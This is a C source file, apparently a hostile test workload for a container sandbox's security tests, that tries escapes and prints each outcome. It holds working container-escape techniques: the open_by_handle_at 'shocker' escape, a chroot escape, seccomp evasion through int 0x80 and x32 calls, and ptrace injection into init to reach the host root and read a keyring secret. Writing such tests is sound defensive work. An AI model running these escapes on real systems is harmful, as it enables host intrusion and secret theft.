/*
 * A hostile workload for tests/security.rs: each subcommand tries an attack with raw system
 * calls and prints one `name=OK:<result>` or `name=ERR:<ERRNO NAME>` line per attempt, so the
 * test asserts on exact outcomes. Built by the test with `gcc -static` (it runs in a busybox
 * root filesystem and, through a volume, on the host filesystem).
 *
 *   probe syscalls                    the dangerous system calls, one by one
 *   probe handle PATH                 print PATH's file handle (run on the host)
 *   probe shocker FILE [HANDLE [REL]] open_by_handle_at the host's root from a volume's file
 *                                     (and create REL there)
 *   probe int80 NR                    a 32-bit x86 system call through int 0x80
 *   probe chroot-escape MARKER        the classic chroot escape, then look for MARKER
 *   probe connect PATH                connect to a unix socket (@NAME: abstract)
 *   probe ptrace-escape DIR HANDLE REL  hijack pid 1 (init) to open the host's root, take the
 *                                     descriptor with pidfd_getfd, create REL there
 *   probe ptrace-keyring DESC         hijack init to read the session keyring's key DESC
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/keyctl.h>
#include <linux/perf_event.h>
#include <linux/sched.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/sysmacros.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef __X32_SYSCALL_BIT
#define __X32_SYSCALL_BIT 0x40000000
#endif

static void report(const char *name, long rc) {
    if (rc < 0) {
        const char *e = strerrorname_np(errno);
        printf("%s=ERR:%s\n", name, e ? e : "?");
    } else {
        printf("%s=OK:%ld\n", name, rc);
    }
    fflush(stdout);
}

/* A child made by a raw clone/clone3 exits at once; the parent reaps it. */
static long reap(long rc) {
    if (rc == 0)
        _exit(0);
    if (rc > 0)
        waitpid((pid_t)rc, NULL, __WALL);
    return rc;
}

static int syscalls(void) {
    char buf[4096];
    int self_mnt = open("/proc/self/ns/mnt", O_RDONLY);

    union bpf_attr attr;
    memset(&attr, 0, sizeof attr);
    attr.map_type = BPF_MAP_TYPE_ARRAY;
    attr.key_size = 4;
    attr.value_size = 4;
    attr.max_entries = 1;
    report("bpf", syscall(SYS_bpf, BPF_MAP_CREATE, &attr, sizeof attr));
    report("add_key", syscall(SYS_add_key, "user", "benchbox-probe", "x", 1,
                              KEY_SPEC_PROCESS_KEYRING));
    report("keyctl", syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0));
    report("request_key", syscall(SYS_request_key, "user", "benchbox-probe", NULL, 0));
    char uring[120];
    memset(uring, 0, sizeof uring);
    report("io_uring_setup", syscall(SYS_io_uring_setup, 4, uring));
    struct perf_event_attr pe;
    memset(&pe, 0, sizeof pe);
    pe.size = sizeof pe;
    pe.type = PERF_TYPE_SOFTWARE;
    pe.config = PERF_COUNT_SW_CPU_CLOCK;
    report("perf_event_open", syscall(SYS_perf_event_open, &pe, 0, -1, -1, 0));
    report("userfaultfd", syscall(SYS_userfaultfd, O_CLOEXEC));
    report("clone_newuser", reap(syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0)));
    report("clone_newns", reap(syscall(SYS_clone, CLONE_NEWNS | SIGCHLD, 0, 0, 0, 0)));
    struct clone_args ca;
    memset(&ca, 0, sizeof ca);
    ca.flags = CLONE_NEWUSER;
    ca.exit_signal = SIGCHLD;
    report("clone3_newuser", reap(syscall(SYS_clone3, &ca, sizeof ca)));
    report("setns", syscall(SYS_setns, self_mnt, 0));
    report("mount_tmpfs", syscall(SYS_mount, "none", "/tmp", "tmpfs", 0, NULL));
    report("remount_root_rw", syscall(SYS_mount, NULL, "/", NULL, MS_REMOUNT, NULL));
    report("umount_kcore", syscall(SYS_umount2, "/proc/kcore", MNT_DETACH));
    report("umount_proc_sys", syscall(SYS_umount2, "/proc/sys", MNT_DETACH));
    report("fsopen", syscall(SYS_fsopen, "tmpfs", 0));
    report("open_tree", syscall(SYS_open_tree, AT_FDCWD, "/", 1 /* OPEN_TREE_CLONE */));
    mkdir("/tmp/old-root", 0700);
    report("pivot_root", syscall(SYS_pivot_root, "/", "/tmp/old-root"));
    report("x32_getpid", syscall(__X32_SYSCALL_BIT | 39));
    report("x32_mount",
           syscall(__X32_SYSCALL_BIT | SYS_mount, "none", "/tmp", "tmpfs", 0, NULL));
    report("x32_unshare", syscall(__X32_SYSCALL_BIT | SYS_unshare, CLONE_NEWUSER));
    report("syslog", syscall(SYS_syslog, 3 /* READ_ALL */, buf, sizeof buf));
    long traced = ptrace(PTRACE_ATTACH, 1, 0, 0);
    report("ptrace_attach_init", traced);
    if (traced == 0) { /* let init go on */
        waitpid(1, NULL, __WALL);
        ptrace(PTRACE_DETACH, 1, 0, 0);
    }
    long pidfd = syscall(SYS_pidfd_open, 1, 0);
    report("pidfd_open_init", pidfd);
    report("pidfd_getfd_init", syscall(SYS_pidfd_getfd, pidfd, 2, 0));
    struct iovec local = {buf, 8}, remote = {(void *)0x400000, 8};
    report("process_vm_readv_init", syscall(SYS_process_vm_readv, 1, &local, 1, &remote, 1, 0));
    report("kcmp_init", syscall(SYS_kcmp, 1, getpid(), 0 /* KCMP_FILE */, 0, 0));
    report("open_init_root", open("/proc/1/root/", O_RDONLY | O_DIRECTORY));
    report("open_init_fd", open("/proc/1/fd/2", O_RDONLY));
    report("open_init_environ", open("/proc/1/environ", O_RDONLY));
    report("open_init_mem", open("/proc/1/mem", O_RDONLY));
    report("open_init_exe", open("/proc/1/exe", O_RDONLY));
    ((unsigned int *)buf)[0] = 128;
    report("name_to_handle_at", syscall(SYS_name_to_handle_at, AT_FDCWD, "/", buf, buf + 256, 0));
    report("init_module", syscall(SYS_init_module, buf, 0, ""));
    report("delete_module", syscall(SYS_delete_module, "benchbox_no_such_module", O_NONBLOCK));
    report("finit_module", syscall(SYS_finit_module, 0, "", 0));
    /* One NULL segment: EFAULT once allowed, never an unload of a loaded image. */
    report("kexec_load", syscall(SYS_kexec_load, 0, 1, NULL, 0));
    /* CAD_OFF only: harmless even if it were allowed (and EINVAL in a pid namespace). */
    report("reboot", syscall(SYS_reboot, 0xfee1dead, 672274793, 0, NULL));
    report("swapon", syscall(SYS_swapon, "/dev/null", 0));
    /* Both NULL: a no-op that still needs CAP_SYS_TIME. */
    report("settimeofday", syscall(SYS_settimeofday, NULL, NULL));
    report("sethostname", syscall(SYS_sethostname, "pwned", 5));
    report("iopl", syscall(SYS_iopl, 3));
    report("ioperm", syscall(SYS_ioperm, 0x80, 1, 1));
    report("acct", syscall(SYS_acct, NULL));
    report("fanotify_init", syscall(SYS_fanotify_init, 0, 0));
    report("vhangup", syscall(SYS_vhangup));
    report("mknod_block", mknod("/tmp/probe-disk", S_IFBLK | 0600, makedev(254, 0)));
    report("mknod_char_mem", mknod("/tmp/probe-mem", S_IFCHR | 0600, makedev(1, 1)));
    report("setpriority_nice", syscall(SYS_setpriority, PRIO_PROCESS, 0, -20));
    struct sched_param sp = {.sched_priority = 99};
    report("sched_fifo", syscall(SYS_sched_setscheduler, 0, SCHED_FIFO, &sp));
    /* Last: once in a new user namespace, every later call would fail for that reason. */
    report("unshare_mnt", syscall(SYS_unshare, CLONE_NEWNS));
    report("unshare_user", syscall(SYS_unshare, CLONE_NEWUSER));
    return 0;
}

/* `handle_bytes:handle_type:hex` of PATH (run as root on the host). */
static int print_handle(const char *path) {
    struct {
        unsigned int bytes;
        int type;
        unsigned char f[128];
    } h;
    int mnt;
    h.bytes = sizeof h.f;
    if (syscall(SYS_name_to_handle_at, AT_FDCWD, path, &h, &mnt, 0) < 0) {
        report("handle", -1);
        return 1;
    }
    printf("handle=%u:%d:", h.bytes, h.type);
    for (unsigned i = 0; i < h.bytes; i++)
        printf("%02x", h.f[i]);
    printf("\n");
    return 0;
}

struct handle {
    unsigned int bytes;
    int type;
    unsigned char f[128];
};

static int parse_handle(const char *text, struct handle *h) {
    unsigned bytes;
    int type, n = 0;
    if (sscanf(text, "%u:%d:%n", &bytes, &type, &n) != 2 || bytes > sizeof h->f)
        return -1;
    h->bytes = bytes;
    h->type = type;
    for (unsigned i = 0; i < bytes; i++)
        if (sscanf(text + n + 2 * i, "%2hhx", &h->f[i]) != 1)
            return -1;
    return 0;
}

static void list_dir(const char *label, int fd) {
    DIR *d = fdopendir(dup(fd));
    struct dirent *e;
    if (!d)
        return;
    while ((e = readdir(d)))
        if (e->d_name[0] != '.')
            printf("%s=%s\n", label, e->d_name);
    closedir(d);
    fflush(stdout);
}

static void create_in(const char *label, long root, const char *rel) {
    if (root < 0 || !rel)
        return;
    int f = openat((int)root, rel, O_CREAT | O_EXCL | O_WRONLY, 0644);
    report(label, f);
    if (f >= 0)
        write(f, "written by a container's workload\n", 34);
}

static int shocker(const char *file, const char *exact, const char *rel) {
    char buf[256];
    int mnt;
    int fd = open(file, O_RDONLY);
    report("open_volume_file", fd);
    ((unsigned int *)buf)[0] = 128;
    report("name_to_handle_stdout", syscall(SYS_name_to_handle_at, 1, "", buf, &mnt, AT_EMPTY_PATH));
    ((unsigned int *)buf)[0] = 128;
    report("name_to_handle_volume", syscall(SYS_name_to_handle_at, AT_FDCWD, file, buf, &mnt, 0));
    /* The classic: inode 2 (ext* root), generation 0, FILEID_INO32_GEN. */
    struct handle classic = {8, 1, {2}};
    long root = syscall(SYS_open_by_handle_at, fd, &classic, O_RDONLY | O_DIRECTORY);
    report("open_by_handle_classic", root);
    if (root >= 0)
        list_dir("classic_entry", (int)root);
    report("open_by_handle_classic_stdout",
           syscall(SYS_open_by_handle_at, 1, &classic, O_RDONLY | O_DIRECTORY));
    struct handle h;
    if (exact && parse_handle(exact, &h) == 0) {
        root = syscall(SYS_open_by_handle_at, fd, &h, O_RDONLY | O_DIRECTORY);
        report("open_by_handle_exact", root);
        if (root >= 0)
            list_dir("exact_entry", (int)root);
        create_in("create_on_host", root, rel);
    }
    return 0;
}

static int int80(long nr) {
    long ret;
    /* 32-bit system call from 64-bit code: the seccomp filter sees AUDIT_ARCH_I386. */
    __asm__ volatile("int $0x80" : "=a"(ret) : "a"(nr), "b"(0), "c"(0), "d"(0) : "memory");
    printf("int80=%ld\n", ret);
    fflush(stdout);
    return 0;
}

static int chroot_escape(const char *marker) {
    mkdir("/tmp/jail", 0755);
    report("chroot_jail", chroot("/tmp/jail"));
    for (int i = 0; i < 256; i++)
        chdir("..");
    report("chroot_dot", chroot("."));
    printf("marker_visible=%s\n", access(marker, F_OK) == 0 ? "yes" : "no");
    printf("container_root=%s\n", access("/bin/busybox", F_OK) == 0 ? "yes" : "no");
    fflush(stdout);
    return 0;
}

static int connect_unix(const char *path) {
    struct sockaddr_un a;
    memset(&a, 0, sizeof a);
    a.sun_family = AF_UNIX;
    socklen_t len = sizeof(sa_family_t);
    if (path[0] == '@') { /* abstract */
        strncpy(a.sun_path + 1, path + 1, sizeof a.sun_path - 2);
        len += 1 + strlen(path + 1);
    } else {
        strncpy(a.sun_path, path, sizeof a.sun_path - 1);
        len += strlen(path) + 1;
    }
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    long rc = connect(s, (struct sockaddr *)&a, len);
    report("connect", rc);
    if (rc == 0)
        report("send", write(s, "pwned", 5));
    return 0;
}

/* One system call run by the stopped tracee at `insn` (a `syscall` instruction). */
static long inject(pid_t pid, const struct user_regs_struct *base, unsigned long long insn, long nr,
                   long a1, long a2, long a3, long a4, long a5, long a6) {
    struct user_regs_struct r = *base;
    int st;
    r.rip = insn;
    r.rax = nr;
    r.orig_rax = -1; /* not in a system call: no restart logic on resume */
    r.rdi = a1;
    r.rsi = a2;
    r.rdx = a3;
    r.r10 = a4;
    r.r8 = a5;
    r.r9 = a6;
    if (ptrace(PTRACE_SETREGS, pid, 0, &r) < 0 || ptrace(PTRACE_SINGLESTEP, pid, 0, 0) < 0 ||
        waitpid(pid, &st, __WALL) < 0 || ptrace(PTRACE_GETREGS, pid, 0, &r) < 0)
        return -100000;
    return (long)r.rax;
}

static int poke(pid_t pid, unsigned long addr, const void *data, size_t len) {
    for (size_t i = 0; i < len; i += sizeof(long)) {
        long word = 0;
        memcpy(&word, (const char *)data + i, len - i < sizeof word ? len - i : sizeof word);
        if (ptrace(PTRACE_POKEDATA, pid, addr + i, word) < 0)
            return -1;
    }
    return 0;
}

/* Stop pid 1 (init) in a system call and find its `syscall` instruction: 0 when it is ours. */
static int seize_init(struct user_regs_struct *saved, unsigned long long *insn) {
    int st;
    long rc = ptrace(PTRACE_SEIZE, 1, 0, 0);
    report("seize_init", rc);
    if (rc < 0)
        return -1;
    ptrace(PTRACE_INTERRUPT, 1, 0, 0);
    waitpid(1, &st, __WALL);
    ptrace(PTRACE_GETREGS, 1, 0, saved);
    long text = ptrace(PTRACE_PEEKTEXT, 1, saved->rip - 2, 0);
    if ((text & 0xffff) != 0x050f) {
        printf("init_not_in_syscall=%llx\n", saved->rip);
        ptrace(PTRACE_DETACH, 1, 0, 0);
        return -1;
    }
    *insn = saved->rip - 2;
    return 0;
}

static void release_init(const struct user_regs_struct *saved) {
    ptrace(PTRACE_SETREGS, 1, 0, saved);
    report("detach_init", ptrace(PTRACE_DETACH, 1, 0, 0));
}

/* A page of scratch memory in init. */
static long init_page(const struct user_regs_struct *saved, unsigned long long insn) {
    long mem = inject(1, saved, insn, SYS_mmap, 0, 4096, PROT_READ | PROT_WRITE,
                      MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    printf("init_mmap=%lx\n", mem);
    return mem;
}

static int ptrace_escape(const char *dir, const char *exact, const char *rel) {
    struct handle h;
    struct user_regs_struct saved;
    unsigned long long insn;
    if (parse_handle(exact, &h) < 0) {
        printf("bad handle\n");
        return 2;
    }
    if (seize_init(&saved, &insn) < 0)
        return 0;
    long mem = init_page(&saved, insn);
    long vol = -1, root = -1;
    if (mem > 0 && poke(1, mem, dir, strlen(dir) + 1) == 0 &&
        poke(1, mem + 1024, &h, sizeof h) == 0) {
        vol = inject(1, &saved, insn, SYS_openat, AT_FDCWD, mem, O_RDONLY | O_DIRECTORY, 0, 0, 0);
        printf("init_openat=%ld\n", vol);
        if (vol >= 0)
            root = inject(1, &saved, insn, SYS_open_by_handle_at, vol, mem + 1024,
                          O_RDONLY | O_DIRECTORY, 0, 0, 0);
        printf("init_open_by_handle_at=%ld\n", root);
    }
    release_init(&saved);
    if (root < 0)
        return 0;
    long pidfd = syscall(SYS_pidfd_open, 1, 0);
    long host_root = syscall(SYS_pidfd_getfd, pidfd, root, 0);
    report("pidfd_getfd_host_root", host_root);
    if (host_root < 0)
        return 0;
    list_dir("host_root_entry", (int)host_root);
    create_in("create_on_host", host_root, rel);
    return 0;
}

/* Read the "user" key DESC of the session keyring: refused to the workload by its filter, then
 * through init (which has none), the key's payload read back from init's memory. */
static int ptrace_keyring(const char *desc) {
    struct user_regs_struct saved;
    unsigned long long insn;
    report("keyctl_search_self",
           syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", desc, 0));
    if (seize_init(&saved, &insn) < 0)
        return 0;
    long mem = init_page(&saved, insn);
    char payload[264] = {0};
    if (mem > 0 && poke(1, mem, "user", 5) == 0 && poke(1, mem + 64, desc, strlen(desc) + 1) == 0) {
        long key = inject(1, &saved, insn, SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING,
                          mem, mem + 64, 0, 0);
        printf("init_keyctl_search=%ld\n", key);
        if (key >= 0) {
            long n = inject(1, &saved, insn, SYS_keyctl, KEYCTL_READ, key, mem + 1024, 256, 0, 0);
            printf("init_keyctl_read=%ld\n", n);
            for (long i = 0; i < n && i < 256; i += sizeof(long)) {
                long word = ptrace(PTRACE_PEEKDATA, 1, mem + 1024 + i, 0);
                memcpy(payload + i, &word, sizeof word);
            }
            payload[n > 0 && n < 256 ? n : 0] = 0;
            printf("stolen=%s\n", payload);
        }
    }
    release_init(&saved);
    fflush(stdout);
    return 0;
}

int main(int argc, char **argv) {
    if (argc >= 2 && !strcmp(argv[1], "syscalls"))
        return syscalls();
    if (argc >= 3 && !strcmp(argv[1], "handle"))
        return print_handle(argv[2]);
    if (argc >= 3 && !strcmp(argv[1], "shocker"))
        return shocker(argv[2], argc >= 4 ? argv[3] : NULL, argc >= 5 ? argv[4] : NULL);
    if (argc >= 3 && !strcmp(argv[1], "int80"))
        return int80(strtol(argv[2], NULL, 0));
    if (argc >= 3 && !strcmp(argv[1], "chroot-escape"))
        return chroot_escape(argv[2]);
    if (argc >= 3 && !strcmp(argv[1], "connect"))
        return connect_unix(argv[2]);
    if (argc >= 3 && !strcmp(argv[1], "ptrace-keyring"))
        return ptrace_keyring(argv[2]);
    if (argc >= 5 && !strcmp(argv[1], "ptrace-escape"))
        return ptrace_escape(argv[2], argv[3], argv[4]);
    fprintf(stderr, "usage: probe syscalls|handle|shocker|int80|chroot-escape|connect|ptrace-escape|ptrace-keyring\n");
    return 2;
}
